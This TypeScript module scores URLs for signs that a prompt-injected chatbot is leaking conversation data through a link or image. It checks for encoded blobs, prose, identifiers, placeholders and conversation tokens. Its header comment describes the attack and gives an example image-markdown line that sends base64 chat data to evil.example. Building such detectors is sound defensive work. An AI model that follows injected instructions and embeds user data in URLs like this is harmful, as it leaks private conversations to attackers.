/**
 * How much data a URL carries to its server: the exfiltration channel of a
 * hijacked chatbot is a link or image whose URL the model filled with
 * conversation data ("![](https://evil.example/p?d=<base64 of the chat>)").
 *
 * Path segments and query values are looked at one by one (the fragment is
 * ignored: browsers never send it). A field counts as data when it is
 * - encoded: 16+ characters of base64/base64url/hex alphabet that look random
 *   (high entropy, and letters that do not split into words the way camelCase
 *   identifiers and slugs do);
 * - text: percent- or plus-encoded prose of 4+ words (counted at half weight:
 *   search links carry a few words legitimately);
 * - long: 64+ characters of anything (counted at half weight), except a
 *   path segment that is a slug (words and numbers joined by dashes);
 * - a template placeholder left in by an injected instruction ("{DATA}",
 *   "[CONVERSATION]", "${SECRET}", "INSERT_...");
 * - an identifier: 8-64 characters of letters and digits mixed (dashes,
 *   dots, underscores allowed), with at least 3 digits and 3 letters —
 *   "ACME-7731-ZETA", an order or account number, a code — counted at 1.5
 *   weight: plain data the model copied, not encoded; "page=2", "q=weather",
 *   "id=12345", dates and versions are not identifiers; only in query
 *   values (a path's ids name the resource);
 * - conversation data: a distinctive token (see distinctiveTokens) that
 *   also appears in the request: the strength is at least 0.65, so an
 *   image to an unlisted host carrying one is blocked by default, a link
 *   the user must click is reported below the default threshold.
 * Many parameters (8+) are a weaker sign. The data-looking characters add up
 * to a strength in [0, 1) that saturates around 70 characters; path segments
 * count 0.7 of query values (0.5 if hex), because paths legitimately hold ids
 * and hashes.
 */

export type PayloadKind = "encoded" | "text" | "long" | "placeholder" | "many-parameters" | "identifier" | "conversation";

export interface PayloadEvidence {
  /** In [0, 1): how strongly the URL looks like it carries data. */
  strength: number;
  /** The strongest kind of evidence, for the explanation. */
  kind: PayloadKind;
}

/** Shorter fields carry too little to matter ("id=7", "/v1/"). */
const MIN_FIELD = 4;
const MIN_ENCODED = 16;
const MIN_LONG = 64;
const MANY_PARAMETERS = 8;
/** Characters at which the strength reaches 1 - 1/e. */
const SATURATION = 24;
const PATH_WEIGHT = 0.7;
/** Hex in a path is usually an id or a hash (commits, UUIDs, content addresses). */
const PATH_HEX_WEIGHT = 0.5;
const IDENTIFIER_WEIGHT = 1.5;
const CONVERSATION_STRENGTH = 0.65;
/** Letters and digits with inner separators; the counts are checked apart. */
/** Words and numbers joined by dashes, underscores or dots, pieces of at most 24 characters. */
const SLUG = /^[\p{L}\p{N}]{1,24}(?:[-_.,+][\p{L}\p{N}]{1,24})+$/u;
const IDENTIFIER = /^[A-Za-z0-9](?:[A-Za-z0-9]|[._-](?=[A-Za-z0-9])){7,63}$/;
/** A version or a date ("v1.2.3", "1.0.0-rc1", "2024-05-01", "01.05.2024"). */
const VERSION_OR_DATE = /^(?:v?\d{1,4}(?:\.\d{1,4})+(?:[._-]?[a-z]{1,5}\d*)?|\d{4}[-/.]\d{1,2}[-/.]\d{1,2}|\d{1,2}[-/.]\d{1,2}[-/.]\d{2,4})$/i;
/** Tokens of decoded text for the conversation check: runs of letters, digits and inner separators. */
const TOKEN = /[\p{L}\p{N}](?:[\p{L}\p{N}]|[._@+-](?=[\p{L}\p{N}])){5,63}/gu;
/** Enough fields to judge any real URL; bounds the work on a megabyte-long one. */
const MAX_FIELDS = 256;

const PARAMETER_SEPARATOR = /[&;]/;
const ENCODED_ALPHABET = /^[A-Za-z0-9+/_=.-]+$/;
const PLACEHOLDER =
  /\{\{?\s*[A-Za-z_][\w .-]{0,40}\}\}?|\[[A-Z_][A-Z0-9_ ]{2,40}\]|<[A-Z_][A-Z0-9_ ]{2,40}>|\$\{?[A-Z_][A-Z0-9_]{2,40}\}?|\b(?:INSERT|REPLACE|PUT)[_ ][A-Z]/;
const LETTER = /\p{L}/u;
const HEX_ID = /^[0-9a-fA-F-]+$/;
/** camelCase parts: "User", "get", "ID". */
const CAMEL_PART = /[A-Z]?[a-z]+|[A-Z]+(?![a-z])/g;
const VOWEL = /[aeiouyAEIOUY]/;
const IMAGE_EXTENSION = /\.(?:png|jpe?g|gif|webp|svg|ico|bmp)$/i;

export function measurePayload(rest: string, conversation?: ReadonlySet<string>): PayloadEvidence | null {
  const hash = rest.indexOf("#");
  const sent = hash >= 0 ? rest.slice(0, hash) : rest;
  const question = sent.indexOf("?");
  const path = question >= 0 ? sent.slice(0, question) : sent;
  const query = question >= 0 ? sent.slice(question + 1) : "";

  let chars = 0;
  let placeholder = false;
  let fromConversation = false;
  let strongest: PayloadKind | null = null;
  let strongestChars = 0;
  const add = (field: FieldVerdict | null, weight: number) => {
    if (field === null) return;
    if (field.kind === "placeholder") placeholder = true;
    if (field.kind === "conversation") fromConversation = true;
    const weighted = field.chars * weight;
    chars += weighted;
    if (weighted > strongestChars) {
      strongestChars = weighted;
      strongest = field.kind;
    }
  };

  for (const segment of path.split("/", MAX_FIELDS)) {
    if (segment.length < MIN_FIELD) continue;
    const field = segment.length >= MIN_ENCODED ? segment.replace(IMAGE_EXTENSION, "") : segment;
    const verdict = judgeField(field, false, conversation);
    if (verdict !== null) add(verdict, HEX_ID.test(field) ? PATH_HEX_WEIGHT : PATH_WEIGHT);
  }
  const params = query === "" ? [] : query.split(PARAMETER_SEPARATOR, MAX_FIELDS);
  for (const param of params) {
    const eq = param.indexOf("=");
    const value = eq >= 0 ? param.slice(eq + 1) : param;
    if (value.length >= MIN_FIELD) add(judgeField(value, true, conversation), 1);
  }

  let strength = 1 - Math.exp(-chars / SATURATION);
  let kind: PayloadKind = strongest ?? "long";
  if (fromConversation && strength < CONVERSATION_STRENGTH) {
    strength = CONVERSATION_STRENGTH;
    kind = "conversation";
  }
  if (placeholder && strength < 0.7) {
    strength = 0.7;
    kind = "placeholder";
  }
  if (params.length >= MANY_PARAMETERS && strength < 0.4) {
    strength = 0.4;
    kind = "many-parameters";
  }
  return strength >= 0.2 ? { strength, kind } : null;
}

interface FieldVerdict {
  kind: PayloadKind;
  /** Data-looking characters this field contributes. */
  chars: number;
}

function judgeField(raw: string, inQuery: boolean, conversation: ReadonlySet<string> | undefined): FieldVerdict | null {
  if (raw.length < MIN_FIELD) return null;
  const unescaped = percentDecode(raw);
  const prose = inQuery ? percentDecode(raw.replaceAll("+", " ")) : unescaped;
  if (PLACEHOLDER.test(prose)) return { kind: "placeholder", chars: 0 };
  if (conversation !== undefined && conversation.size > 0) {
    for (const m of prose.matchAll(TOKEN)) {
      if (conversation.has(m[0].toLowerCase())) return { kind: "conversation", chars: m[0].length };
    }
  }
  if (unescaped.length >= MIN_ENCODED && ENCODED_ALPHABET.test(unescaped) && looksRandom(unescaped)) {
    return { kind: "encoded", chars: unescaped.length };
  }
  if (countWords(prose) >= 4) return { kind: "text", chars: prose.length * 0.5 };
  // A long path slug ("/2015/03/29/iggy-azalea-awards-hair-makeup-2015/") names a page; it is not data.
  // Counted decoded: percent-encoding triples each byte ("/tag/%E5%A4%A7..." is a short word).
  if (unescaped.length >= MIN_LONG && (inQuery || !SLUG.test(unescaped))) return { kind: "long", chars: unescaped.length / 2 };
  // Ids in a path name the resource; plain data copied into a query value is the exfiltration shape.
  if (inQuery && isIdentifier(unescaped)) return { kind: "identifier", chars: unescaped.length * IDENTIFIER_WEIGHT };
  return null;
}

function isIdentifier(s: string): boolean {
  if (!IDENTIFIER.test(s) || VERSION_OR_DATE.test(s)) return false;
  let digits = 0;
  let letters = 0;
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    if (c >= 48 && c <= 57) digits++;
    else if ((c >= 65 && c <= 90) || (c >= 97 && c <= 122)) letters++;
  }
  return digits >= 3 && letters >= 3;
}

/** Most distinctive tokens kept from one request's text. */
const MAX_TOKENS = 2048;

/**
 * Tokens of a request's text distinctive enough that seeing one in a URL
 * means the URL carries conversation data: 6-64 characters with letters and
 * digits mixed, numbers of 6+ digits (accounts, phones, cards; not dates or
 * versions), or an e-mail address. Plain words ("weather") are not kept:
 * a search link may repeat them legitimately. Lower case; bounded.
 */
export function distinctiveTokens(texts: Iterable<string>, into: Set<string> = new Set()): Set<string> {
  for (const text of texts) {
    for (const m of text.matchAll(TOKEN)) {
      if (into.size >= MAX_TOKENS) return into;
      const t = m[0];
      if (VERSION_OR_DATE.test(t)) continue;
      const letters = /\p{L}/u.test(t);
      if (t.includes("@") || (letters && /\p{N}/u.test(t)) || (!letters && digitCount(t) >= 6)) into.add(t.toLowerCase());
    }
  }
  return into;
}

function percentDecode(s: string): string {
  if (!s.includes("%")) return s;
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

/** Words in decoded prose; a value without spaces is not prose. */
function countWords(s: string): number {
  if (!s.includes(" ")) return 0;
  let words = 0;
  for (const w of s.split(" ", MAX_FIELDS)) if (LETTER.test(w)) words++;
  return words;
}

/**
 * Random-looking: Shannon entropy of 3+ bits per character and, unless the
 * string is hex, letters that do not read as words. Identifiers such as
 * "getUserProfileById" switch case as often as base64 does, but split into
 * pronounceable parts; base64 splits into consonant clusters ("Vsb", "Rhd").
 * Strings of digits alone (ids, timestamps) need 32 characters.
 */
function looksRandom(s: string): boolean {
  let digits = 0;
  let letters = 0;
  const counts = new Map<number, number>();
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    counts.set(c, (counts.get(c) ?? 0) + 1);
    if (c >= 48 && c <= 57) digits++;
    else if ((c >= 65 && c <= 90) || (c >= 97 && c <= 122)) letters++;
  }
  if (digits === s.length) return s.length >= 32;
  let entropy = 0;
  for (const n of counts.values()) {
    const p = n / s.length;
    entropy -= p * Math.log2(p);
  }
  if (entropy < 3) return false;
  if (/^[0-9a-fA-F]+$/.test(s)) return digits > 0 && letters > 0;
  if (s === s.toLowerCase() && digits === 0) return false; // one letter case, no digits: a slug, not base64
  let wordLetters = 0;
  for (const part of s.matchAll(CAMEL_PART)) if (part[0].length >= 3 && VOWEL.test(part[0])) wordLetters += part[0].length;
  return wordLetters / Math.max(1, letters) < 0.6;
}

function digitCount(s: string): number {
  let n = 0;
  for (let i = 0; i < s.length; i++) if (s.charCodeAt(i) >= 48 && s.charCodeAt(i) <= 57) n++;
  return n;
}
